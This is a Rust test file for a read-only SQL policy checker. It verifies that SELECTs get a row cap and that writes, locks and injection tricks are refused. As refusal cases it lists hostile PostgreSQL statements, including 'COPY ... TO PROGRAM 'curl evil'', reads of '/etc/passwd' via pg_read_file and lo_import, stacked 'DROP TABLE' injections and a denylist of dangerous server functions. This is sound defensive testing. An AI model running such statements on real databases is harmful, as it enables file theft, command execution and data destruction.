//! The policy's attack corpus: every write, lock, command and denylisted function in the
//! spellings that matter, each refused; and what it allows, regenerated with its limit.

use super::*;

const MAX: u64 = 100;

fn allowed(sql: &str) -> Checked {
    check(sql, MAX).unwrap_or_else(|refusal| panic!("{sql:?} was refused: {refusal:?}"))
}

fn violation_of(sql: &str) -> String {
    match check(sql, MAX) {
        Err(Refusal::Violation(why)) => why,
        other => panic!("{sql:?} should be a policy violation, got {other:?}"),
    }
}

fn refused(sql: &str) {
    assert!(check(sql, MAX).is_err(), "{sql:?} was allowed");
}

#[test]
fn plain_queries_are_allowed_and_regenerated_without_comments() {
    for sql in [
        "SELECT 1",
        "select id, name from users where id = 3 order by name",
        "SELECT a FROM t UNION ALL SELECT b FROM u",
        "WITH recent AS (SELECT * FROM orders WHERE at > now() - interval '1 day') SELECT count(*) FROM recent",
        "SELECT * FROM (SELECT 1 AS x) AS s JOIN LATERAL (SELECT s.x + 1 AS y) AS l ON true",
        "VALUES (1, 'a'), (2, 'b')",
        "SELECT current_setting('TimeZone')",
        "SELECT pg_catalog.version()",
        "SELECT * FROM generate_series(1, 5)",
    ] {
        allowed(sql);
    }
    let checked = allowed("SELECT 1 /* hidden */ -- trailing\n");
    assert_eq!(checked.sql, "SELECT 1 LIMIT 101");
    assert!(!checked.sql.contains("hidden"));
}

#[test]
fn the_outer_limit_is_at_most_max_rows_whatever_was_asked() {
    // No limit of its own: the cap bounds it, and one row more is asked for, so a row past
    // the cap tells the tool the cap withheld rows.
    let open = allowed("SELECT * FROM t");
    assert_eq!(
        (open.limit, open.capped, open.fetched()),
        (MAX, true, MAX + 1)
    );
    assert!(open.sql.ends_with("LIMIT 101"), "{}", open.sql);
    // The query's own limit below or at the cap is kept as written: nothing the cap withholds.
    for (sql, limit) in [
        ("SELECT * FROM t LIMIT 5", 5),
        ("SELECT * FROM t LIMIT 99", 99),
        ("SELECT * FROM t LIMIT 100", 100),
    ] {
        let checked = allowed(sql);
        assert_eq!(checked.sql, sql);
        assert_eq!((checked.limit, checked.capped), (limit, false), "{sql}");
    }
    // Above the cap: the cap bounds it, asked one further.
    for sql in ["SELECT * FROM t LIMIT 101", "SELECT * FROM t LIMIT 5000"] {
        let checked = allowed(sql);
        assert_eq!((checked.limit, checked.capped), (MAX, true), "{sql}");
        assert_eq!(checked.sql, "SELECT * FROM t LIMIT 101");
    }
    for sql in [
        "SELECT * FROM t LIMIT ALL",
        "SELECT * FROM t LIMIT (SELECT 10)",
        "SELECT * FROM t LIMIT 5 + 5",
        "SELECT * FROM t FETCH FIRST 50 PERCENT ROWS ONLY",
        "SELECT * FROM t ORDER BY a FETCH FIRST 3 ROWS WITH TIES",
    ] {
        let checked = allowed(sql);
        assert_eq!((checked.limit, checked.capped), (MAX, true), "{sql}");
        assert!(checked.sql.ends_with("LIMIT 101"), "{sql}: {}", checked.sql);
        assert!(!checked.sql.contains("FETCH"), "{}", checked.sql);
    }
    assert_eq!(
        allowed("SELECT * FROM t FETCH FIRST 7 ROWS ONLY").sql,
        "SELECT * FROM t LIMIT 7"
    );
    assert_eq!(
        allowed("SELECT * FROM t LIMIT 10 OFFSET 20").sql,
        "SELECT * FROM t LIMIT 10 OFFSET 20"
    );
    // Standard pagination keeps its own limit (and is not capped, so not "truncated").
    let page = allowed("SELECT * FROM t ORDER BY a OFFSET 20 ROWS FETCH FIRST 10 ROWS ONLY");
    assert_eq!((page.limit, page.capped), (10, false), "{}", page.sql);
    assert!(
        page.sql.ends_with("LIMIT 10 OFFSET 20 ROWS"),
        "{}",
        page.sql
    );
    // At the largest cap nothing can be past it, and the SQL is still a fixed point.
    let widest = check("SELECT * FROM t", u64::MAX).unwrap();
    assert_eq!((widest.limit, widest.capped), (u64::MAX, false));
    // The limit of a set operation is the outer one; inner limits stay as written.
    let union = allowed("(SELECT a FROM t LIMIT 1000) UNION (SELECT b FROM u)");
    assert!(union.sql.ends_with(") LIMIT 101"), "{}", union.sql);
}

#[test]
fn every_write_and_command_is_refused() {
    for sql in [
        "INSERT INTO t VALUES (1)",
        "UPDATE t SET a = 1",
        "DELETE FROM t",
        "MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE",
        "TRUNCATE t",
        "DROP TABLE t",
        "CREATE TABLE x (a int)",
        "ALTER TABLE t ADD COLUMN b int",
        "GRANT SELECT ON t TO public",
        "REVOKE SELECT ON t FROM public",
        "SET statement_timeout = 0",
        "BEGIN",
        "COMMIT",
        "COPY t TO PROGRAM 'curl evil'",
        "COPY t FROM '/etc/passwd'",
        "CALL do_things()",
        "VACUUM t",
        "EXPLAIN ANALYZE DELETE FROM t",
        "PREPARE p AS SELECT 1",
        "EXECUTE p",
        "LISTEN chan",
        "NOTIFY chan",
        "LOCK TABLE t",
        "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
        "DO $$ BEGIN DELETE FROM t; END $$",
        "DISCARD ALL",
        "RESET ALL",
    ] {
        refused(sql);
    }
}

#[test]
fn writes_hidden_inside_a_query_are_found() {
    for sql in [
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING id) SELECT id FROM i",
        "WITH u AS (UPDATE t SET a = 2 RETURNING a) SELECT a FROM u",
        "WITH a AS (SELECT 1), d AS (DELETE FROM t RETURNING *) SELECT * FROM a",
        "SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) AS s",
        "SELECT * INTO new_table FROM t",
        "SELECT * FROM t FOR UPDATE",
        "SELECT * FROM t FOR SHARE",
        "SELECT * FROM (SELECT * FROM t FOR UPDATE) AS s",
        "SELECT 1 UNION SELECT * FROM t FOR UPDATE",
    ] {
        violation_of(sql);
    }
    // Forms the parser does not know are refused as unreadable.
    for sql in [
        "SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED",
        "SELECT * FROM t FOR KEY SHARE",
    ] {
        refused(sql);
    }
}

#[test]
fn several_statements_and_comment_tricks_are_refused() {
    for sql in [
        "SELECT 1; DROP TABLE t",
        "SELECT 1 --\n; DROP TABLE t",
        "SELECT 1 /* ; */ ; DELETE FROM t",
        "SELECT 1;SELECT 2",
    ] {
        assert!(
            violation_of(sql).contains("statements"),
            "{sql}: should name the count"
        );
    }
    for sql in [
        "",
        "   ",
        "-- only a comment",
        "SELEC 1",
        "SELECT 'unterminated",
    ] {
        assert!(
            matches!(check(sql, MAX), Err(Refusal::Invalid(_))),
            "{sql:?}"
        );
    }
}

#[test]
fn every_denied_function_is_refused_in_every_spelling_and_place() {
    let families = [
        "dblink('host=x', 'select 1')",
        "dblink_exec('host=x', 'drop table t')",
        "lo_import('/etc/passwd')",
        "lo_export(1, '/tmp/x')",
        "pg_advisory_lock(1)",
        "pg_try_advisory_xact_lock(1)",
        "pg_sleep(10)",
        "pg_sleep_for('5 minutes')",
        "pg_read_file('/etc/passwd')",
        "pg_read_binary_file('/etc/passwd')",
        "pg_ls_dir('/')",
        "pg_ls_waldir()",
        "pg_stat_file('/etc/passwd')",
        "pg_terminate_backend(1)",
        "pg_cancel_backend(1)",
        "set_config('statement_timeout', '0', false)",
        "pg_notify('chan', 'x')",
        "pg_reload_conf()",
        "pg_rotate_logfile()",
        "pg_switch_wal()",
        "pg_create_logical_replication_slot('s', 'pgoutput')",
        "pg_drop_replication_slot('s')",
        "pg_replication_origin_create('o')",
        "pg_logical_emit_message(true, 'p', 'm')",
        "pg_wal_replay_pause()",
        "pg_promote()",
        "pg_backup_start('l')",
        "pg_stat_reset()",
        "nextval('s')",
        "setval('s', 1)",
        "query_to_xml('delete from t', true, true, '')",
        "pg_file_write('/tmp/x', 'y', false)",
    ];
    for call in families {
        let (name, args) = call.split_once('(').unwrap();
        for spelled in [
            name.to_owned(),
            name.to_uppercase(),
            format!("pg_catalog.{name}"),
            format!("\"{name}\""),
            format!("PG_CATALOG.\"{}\"", name.to_uppercase()),
        ] {
            let call = format!("{spelled}({args}");
            for sql in [
                format!("SELECT {call}"),
                format!("SELECT (SELECT {call})"),
                format!("SELECT 1 WHERE {call} IS NOT NULL"),
                format!("SELECT coalesce(NULL, {call})"),
                format!("WITH x AS (SELECT {call}) SELECT 1 FROM x"),
                format!("SELECT * FROM {call}"),
                format!("SELECT 1 ORDER BY {call}"),
            ] {
                let why = violation_of(&sql);
                assert!(why.contains(&name.to_lowercase()), "{sql}: {why}");
            }
        }
    }
}

#[test]
fn current_setting_reads_only_harmless_literal_settings() {
    allowed("SELECT current_setting('search_path')");
    for sql in [
        "SELECT current_setting('data_directory')",
        "SELECT current_setting('DATA_DIRECTORY')",
        "SELECT current_setting('hba_file')",
        "SELECT current_setting('ssl_key_file')",
        "SELECT current_setting('archive_command')",
        "SELECT current_setting('primary_conninfo')",
        "SELECT current_setting(name) FROM pg_settings",
        "SELECT pg_catalog.current_setting('config_file', true)",
    ] {
        violation_of(sql);
    }
}

#[test]
fn bind_parameters_are_refused() {
    for sql in [
        "SELECT * FROM t WHERE id = $1",
        "SELECT $1::int",
        "SELECT * FROM t LIMIT $2",
    ] {
        assert!(violation_of(sql).contains("bind parameters"), "{sql}");
    }
}

#[test]
fn what_runs_passes_the_policy_again() {
    for sql in [
        "SELECT * FROM t WHERE a = 'x''y' LIMIT 3",
        "SELECT \"Odd Name\" FROM \"T\"",
        "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5) SELECT * FROM r",
    ] {
        let once = allowed(sql);
        assert_eq!(check(&once.sql, MAX).unwrap(), once, "{sql}");
    }
}

#[test]
fn an_operator_that_postgresql_would_cut_at_a_comment_is_refused() {
    // Fuzz find (fuzz/regressions/sql_policy/): sqlparser took `~|--Hb` for one operator
    // and appended the LIMIT after it, where PostgreSQL would read a comment.
    for sql in [
        "SELECT ~\nSELECT ~|--Hb%HO|b",
        "SELECT 1 ~|-- 2",
        "SELECT a FROM t WHERE a @@-- x",
        "SELECT 1 <->/* x */ 2",
    ] {
        assert!(
            matches!(
                check(sql, 10),
                Err(Refusal::Violation(_)) | Err(Refusal::Invalid(_))
            ),
            "{sql}"
        );
    }
    assert!(
        check("SELECT 1 - -1", 10).is_ok(),
        "minus minus with a space is arithmetic"
    );
}

#[test]
fn optimizer_hints_are_comments_and_are_dropped() {
    // Fuzz find (fuzz/regressions/sql_policy/): sqlparser keeps `SELECT --+hint` and
    // `SELECT /*+ hint */` as optimizer hints and prints them back; to PostgreSQL they
    // are comments, and what runs has none.
    for sql in [
        "SELECT--+T-\u{b}",
        "SELECT --+ full(t)\n a FROM t",
        "SELECT /*+ x */ 1 UNION SELECT /*+ y */ 2",
    ] {
        let checked = check(sql, 5).unwrap();
        assert!(
            !checked.sql.contains("--") && !checked.sql.contains("/*"),
            "{sql:?}: {}",
            checked.sql
        );
    }
}
